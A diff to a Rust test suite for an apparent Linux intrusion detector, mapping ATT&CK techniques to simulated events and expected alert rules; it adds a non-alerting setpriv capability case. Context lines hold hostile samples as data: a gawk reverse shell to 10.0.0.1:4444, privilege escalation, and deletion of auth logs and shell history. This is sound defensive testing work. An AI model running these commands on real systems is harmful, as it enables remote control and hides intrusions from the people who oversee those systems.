@@ -144,6 +144,15 @@ fn cases() -> Vec<(&'static str, &'static str, Vec<Event>, &'static str)> {
         ("T1059", "gawk /inet/tcp", vec![run("/usr/bin/gawk", &["awk", "BEGIN {s = \"/inet/tcp/0/10.0.0.1/4444\"; while ((s |& getline c) > 0) { while ((c | getline) > 0) print |& s }}"])], "SHR-EXEC-008"),
         ("T1059", "a python one-liner for JSON is fine", vec![run("/usr/bin/python3.11", &["python3", "-c", "import json,sys; print(json.load(sys.stdin)['a'])"])], ""),
         ("T1068", "a /tmp program becomes root", vec![cred_change(&fake_root, &sh(), (1000, 1000), (0, 0), &[])], "SHR-PRIV-003"),
+        ("T1068", "setpriv raising effective caps it was permitted", vec![{
+            let mut e = cred_change(&p("/usr/bin/setpriv", &["setpriv", "--reuid=33"]), &sh(), (33, 33), (33, 33), &["CAP_SYS_ADMIN"]);
+            if let Some(c) = e.cred.as_mut() {
+                c.old.cap_permitted = vec!["CAP_SYS_ADMIN".into()];
+                c.new.cap_permitted = vec!["CAP_SYS_ADMIN".into()];
+                c.new.cap_effective = vec!["CAP_SYS_ADMIN".into()];
+            }
+            e
+        }], ""),
         ("T1070.002", "a log deleted", vec![unlink(&p("/usr/bin/rm", &["rm"]), &sh(), "/var/log/auth.log")], "SHR-EVA-003"),
         ("T1070.002", "wtmp rewritten by utmpdump", vec![open(&p("/usr/bin/utmpdump", &["utmpdump", "-r"]), &sh(), "/var/log/wtmp", &["write"])], "SHR-EVA-017"),
         ("T1070.003", "history removed", vec![unlink(&p("/usr/bin/rm", &["rm"]), &sh(), "/root/.bash_history")], "SHR-EVA-004"),
